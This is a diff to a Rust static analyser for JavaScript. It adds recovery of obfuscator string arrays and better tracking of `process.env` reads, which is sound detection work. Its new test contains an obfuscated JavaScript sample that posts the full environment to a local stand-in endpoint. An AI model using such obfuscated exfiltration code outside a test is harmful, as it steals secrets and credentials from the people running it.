@@ -20,6 +20,7 @@ use palisade_diagnostics::{
     NetworkFact, PathFact, ProcessFact,
 };
 
+use super::string_array::{self, StringArrays};
 use crate::classify::{self, Destination};
 use crate::lines::LineIndex;
 
@@ -155,7 +156,14 @@ pub(crate) fn analyse(path: &str, source: &str, kind: JsKind) -> JsFileResult {
         result.parse_error = Some(msg);
         return result;
     }
+    // javascript-obfuscator's string arrays, recovered without running them.
+    let tables = if source.contains("shift") || source.contains("_0x") {
+        StringArrays::find(&ret.program, source).map(std::rc::Rc::new)
+    } else {
+        None
+    };
     let mut v = Analyzer::new(path, source);
+    v.tables.clone_from(&tables);
     v.visit_program(&ret.program);
     // Values that reach local functions' parameters: a second pass follows
     // them into the function bodies (only when something sensitive is passed).
@@ -175,6 +183,7 @@ pub(crate) fn analyse(path: &str, source: &str, kind: JsKind) -> JsFileResult {
         // declaration (hoisting) see its value in the second pass.
         let hoisted = std::mem::take(&mut v.scopes[0]);
         v = Analyzer::new(path, source);
+        v.tables = tables;
         v.scopes[0].strings = hoisted.strings;
         v.scopes[0].arrays = hoisted.arrays;
         v.scopes[0].declared = hoisted.declared;
@@ -256,6 +265,8 @@ struct Analyzer<'s> {
     /// Taint of what local functions return, by name (this pass and the last).
     fn_returns: HashMap<String, Taint>,
     known_fn_returns: HashMap<String, Taint>,
+    /// Recovered obfuscator string arrays and their decoder functions.
+    tables: Option<std::rc::Rc<StringArrays>>,
 }
 
 /// What callers pass to one parameter of a local function.
@@ -288,6 +299,7 @@ impl<'s> Analyzer<'s> {
             eval_of_local_call: false,
             fn_returns: HashMap::new(),
             known_fn_returns: HashMap::new(),
+            tables: None,
         }
     }
 
@@ -307,6 +319,27 @@ impl<'s> Analyzer<'s> {
     fn top(&mut self) -> &mut Scope {
         let i = self.scopes.len() - 1;
         &mut self.scopes[i]
+    }
+
+    /// `process.env`, also as `process[k]` with `k` folding to `"env"`.
+    fn is_process_env(&self, e: &Expression<'_>) -> bool {
+        is_process_env_static(e)
+            || matches!(e, Expression::ComputedMemberExpression(m)
+                if matches!(m.object.get_inner_expression(), Expression::Identifier(id) if id.name == "process")
+                    && self.eval(&m.expression, false, 0).as_deref() == Some("env"))
+    }
+
+    /// `process.env`, possibly behind `cond ? process.env : {}` or `process.env || {}`.
+    fn aliases_process_env(&self, e: &Expression<'_>) -> bool {
+        match e.get_inner_expression() {
+            Expression::ConditionalExpression(c) => {
+                self.aliases_process_env(&c.consequent) || self.aliases_process_env(&c.alternate)
+            }
+            Expression::LogicalExpression(l) => {
+                self.aliases_process_env(&l.left) || self.aliases_process_env(&l.right)
+            }
+            inner => self.is_process_env(inner),
+        }
     }
 
     fn string_of(&self, name: &str) -> Option<&String> {
@@ -370,7 +403,7 @@ impl<'s> Analyzer<'s> {
 
     /// Records what an expression binds to a name.
     fn bind(&mut self, name: &str, init: &Expression<'_>) {
-        if aliases_process_env(init) {
+        if self.aliases_process_env(init) {
             // An alias of `process.env`: reads through it are named reads.
             self.holder(name)
                 .modules
@@ -423,7 +456,7 @@ impl<'s> Analyzer<'s> {
             BindingPattern::ObjectPattern(obj) => {
                 let base_module = init.and_then(|i| self.module_value(i));
                 let base_taint = init.map_or(0, |i| self.taint(i, 0));
-                let is_env = init.is_some_and(|i| is_process_env(i.get_inner_expression()));
+                let is_env = init.is_some_and(|i| self.is_process_env(i.get_inner_expression()));
                 for prop in &obj.properties {
                     let key = prop.key.static_name().map(|k| k.to_string());
                     if is_env && let Some(k) = &key {
@@ -698,6 +731,14 @@ impl<'s> Analyzer<'s> {
                     }) {
                         return Some(v.clone());
                     }
+                    // `alphabet[12]` with `alphabet` a constant string: one
+                    // character (string tables spelled out letter by letter).
+                    if let Some(c) = idx.and_then(|i| {
+                        self.string_of(id.name.as_str())
+                            .and_then(|s| s.encode_utf16().nth(i))
+                    }) {
+                        return Some(String::from_utf16_lossy(&[c]));
+                    }
                 }
                 // `['a','b'][0]`
                 if let (Expression::ArrayExpression(arr), Some(i)) = (
@@ -730,7 +771,8 @@ impl<'s> Analyzer<'s> {
                 .get(&prop.to_ascii_lowercase())
                 .and_then(|p| p.literal.clone());
         }
-        if is_process_env(m.object.get_inner_expression()) && matches!(prop, "HOME" | "USERPROFILE")
+        if self.is_process_env(m.object.get_inner_expression())
+            && matches!(prop, "HOME" | "USERPROFILE")
         {
             return Some("~".to_owned());
         }
@@ -745,6 +787,19 @@ impl<'s> Analyzer<'s> {
             .filter_map(Argument::as_expression)
             .collect();
         let name = self.callee_name(&call.callee).unwrap_or_default();
+        if let (Some(t), Expression::Identifier(id)) =
+            (&self.tables, call.callee.get_inner_expression())
+            && t.knows(id.name.as_str())
+        {
+            let values: Vec<Option<String>> = args
+                .iter()
+                .map(|a| {
+                    self.eval(a, false, depth + 1)
+                        .or_else(|| string_array::constant_text(a))
+                })
+                .collect();
+            return t.call(id.name.as_str(), &values);
+        }
         match name.as_str() {
             "os.homedir" => return Some("~".to_owned()),
             "os.tmpdir" => return Some("/tmp".to_owned()),
@@ -951,10 +1006,10 @@ impl<'s> Analyzer<'s> {
                 n => self.taint_of_name(n),
             },
             Expression::StaticMemberExpression(m) => {
-                if is_process_env(m.object.get_inner_expression()) {
+                if self.is_process_env(m.object.get_inner_expression()) {
                     return env_taint(m.property.name.as_str());
                 }
-                if is_process_env(expr) {
+                if self.is_process_env(expr) {
                     return ENV_BULK;
                 }
                 if let Expression::Identifier(id) = m.object.get_inner_expression() {
@@ -983,12 +1038,12 @@ impl<'s> Analyzer<'s> {
                 self.taint(&m.object, d)
             }
             Expression::ComputedMemberExpression(m) => {
-                if is_process_env(m.object.get_inner_expression()) {
+                if self.is_process_env(m.object.get_inner_expression()) {
                     return self
                         .eval(&m.expression, false, d)
                         .map_or(0, |k| env_taint(&k));
                 }
-                if is_process_env(expr) {
+                if self.is_process_env(expr) {
                     return ENV_BULK;
                 }
                 self.taint(&m.object, d) | self.taint(&m.expression, d)
@@ -1495,6 +1550,22 @@ impl<'s> Analyzer<'s> {
             self.handle_method_on_sink(call);
             return;
         };
+        // `chunks.push(chunk)`, `parts.unshift(x)`: the collection now holds
+        // what was added (a response read piecewise stays a response).
+        if let Expression::StaticMemberExpression(m) = call.callee.get_inner_expression()
+            && matches!(m.property.name.as_str(), "push" | "unshift")
+            && let Expression::Identifier(target) = m.object.get_inner_expression()
+        {
+            let t = call
+                .arguments
+                .iter()
+                .filter_map(Argument::as_expression)
+                .fold(0, |acc, a| acc | self.taint(a, 0));
+            if t != 0 {
+                let n = target.name.as_str();
+                *self.holder(n).taint.entry(n.to_owned()).or_default() |= t;
+            }
+        }
         if decode_kind(&name, call, self).is_some() {
             for n in self.fn_stack.iter().flatten() {
                 if self.decoder_fns.len() < 1024 {
@@ -1728,7 +1799,7 @@ impl<'s> Analyzer<'s> {
         {
             if args
                 .first()
-                .is_some_and(|a| is_process_env(a.get_inner_expression()))
+                .is_some_and(|a| self.is_process_env(a.get_inner_expression()))
             {
                 self.env_fact(None, call.span);
             }
@@ -2108,7 +2179,7 @@ impl<'a> Visit<'a> for Analyzer<'_> {
     }
 
     fn visit_static_member_expression(&mut self, it: &StaticMemberExpression<'a>) {
-        if is_process_env(it.object.get_inner_expression()) {
+        if self.is_process_env(it.object.get_inner_expression()) {
             self.env_fact(Some(it.property.name.as_str()), it.span);
             return;
         }
@@ -2121,13 +2192,13 @@ impl<'a> Visit<'a> for Analyzer<'_> {
     }
 
     fn visit_computed_member_expression(&mut self, it: &ComputedMemberExpression<'a>) {
-        if static_string(&it.expression).as_deref() == Some("env")
-            && matches!(it.object.get_inner_expression(), Expression::Identifier(id) if id.name == "process")
+        if matches!(it.object.get_inner_expression(), Expression::Identifier(id) if id.name == "process")
+            && self.eval(&it.expression, false, 0).as_deref() == Some("env")
         {
             self.env_fact(None, it.span);
             return;
         }
-        if is_process_env(it.object.get_inner_expression()) {
+        if self.is_process_env(it.object.get_inner_expression()) {
             let name = self.eval(&it.expression, false, 0);
             self.env_fact(Some(name.as_deref().unwrap_or("*")), it.span);
             self.visit_expression(&it.expression);
@@ -2312,7 +2383,7 @@ fn is_function(e: &Expression<'_>) -> bool {
     )
 }
 
-fn is_process_env(e: &Expression<'_>) -> bool {
+fn is_process_env_static(e: &Expression<'_>) -> bool {
     match e {
         Expression::StaticMemberExpression(m) => is_process_env_member(m),
         Expression::ComputedMemberExpression(m) => {
@@ -2320,19 +2391,6 @@ fn is_process_env(e: &Expression<'_>) -> bool {
                 && matches!(m.object.get_inner_expression(), Expression::Identifier(id) if id.name == "process")
         }
         _ => false,
-    }
-}
-
-/// `process.env`, possibly behind `cond ? process.env : {}` or `process.env || {}`.
-fn aliases_process_env(e: &Expression<'_>) -> bool {
-    match e.get_inner_expression() {
-        Expression::ConditionalExpression(c) => {
-            aliases_process_env(&c.consequent) || aliases_process_env(&c.alternate)
-        }
-        Expression::LogicalExpression(l) => {
-            aliases_process_env(&l.left) || aliases_process_env(&l.right)
-        }
-        inner => is_process_env(inner),
     }
 }
 
@@ -2764,6 +2822,25 @@ mod tests {
             Some("https://giftshop.invalid/x")
         );
         assert_eq!(call.host.as_deref(), Some("giftshop.invalid"));
+    }
+
+    #[test]
+    fn reads_through_obfuscator_string_arrays() {
+        // The shape javascript-obfuscator emits: a rotated string array, a
+        // decoder with an index offset, a wrapper, `process[...]` by name.
+        let f = facts(
+            r"
+function _0xa(){const x=['post','4zz','3abc','env','http://127.0.0.1:9/c','got'];_0xa=function(){return x;};return _0xa();}
+function _0xd(i,k){const a=_0xa();return _0xd=function(j,l){j=j-0x10;let v=a[j];return v;},_0xd(i,k);}
+function _0xw(p,q){return _0xd(q- -0x1,p);}
+(function(f,t){const g=_0xd,arr=f();while(!![]){try{const c=parseInt(g(0x10))+parseInt(g(0x15))*0x2;if(c===t)break;else arr['push'](arr['shift']());}catch(e){arr['push'](arr['shift']());}}}(_0xa,0xb));
+const got=require(_0xd(0x13));
+got[_0xw(0x0,0x13)](_0xd(0x12),{json:process[_0xd(0x11)]});
+",
+        );
+        assert!(f.imports.iter().any(|i| i.module.as_deref() == Some("got")));
+        let flow = f.flows.iter().find(|fl| fl.source == "env").expect("flow");
+        assert_eq!(flow.destination.as_deref(), Some("http://127.0.0.1:9/c"));
     }
 
     #[test]
